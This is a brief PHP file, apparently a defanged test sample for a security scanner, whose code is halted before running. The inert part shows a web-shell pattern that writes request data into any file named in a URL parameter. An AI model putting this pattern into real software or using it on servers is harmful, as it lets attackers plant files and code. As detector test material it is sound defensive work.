<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$name = $_GET['f'];
$fp = fopen($name, 'a');
fputs($fp, $_REQUEST['t']);
